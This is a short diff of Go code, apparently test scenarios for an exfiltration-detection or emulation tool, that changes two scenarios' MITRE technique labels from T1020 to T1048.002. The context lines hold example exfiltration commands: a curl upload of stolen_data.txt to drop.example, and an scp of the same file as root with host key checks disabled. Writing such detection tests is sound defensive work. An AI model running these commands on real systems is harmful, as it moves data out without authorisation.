@@ -45,7 +45,7 @@ EOF`,
 			Name:      "https_put",
 			Summary:   "HTTPS PUT",
 			Command:   `curl --silent --cacert /data/sink.pem --upload-file stolen_data.txt https://drop.example/upload`,
-			Technique: "T1020", Process: "/usr/bin/curl",
+			Technique: "T1048.002", Process: "/usr/bin/curl",
 		},
 		{
 			Name:      "chunked_post",
@@ -58,7 +58,7 @@ EOF`,
 			Summary: "scp to an SSH server",
 			Command: `cp /data/client.key /tmp/key && chmod 600 /tmp/key &&
 scp -q -i /tmp/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null stolen_data.txt root@drop.example:/upload/`,
-			Technique: "T1020", Process: "/usr/bin/ssh", Needs: "sshd",
+			Technique: "T1048.002", Process: "/usr/bin/ssh", Needs: "sshd",
 		},
 	}
 }
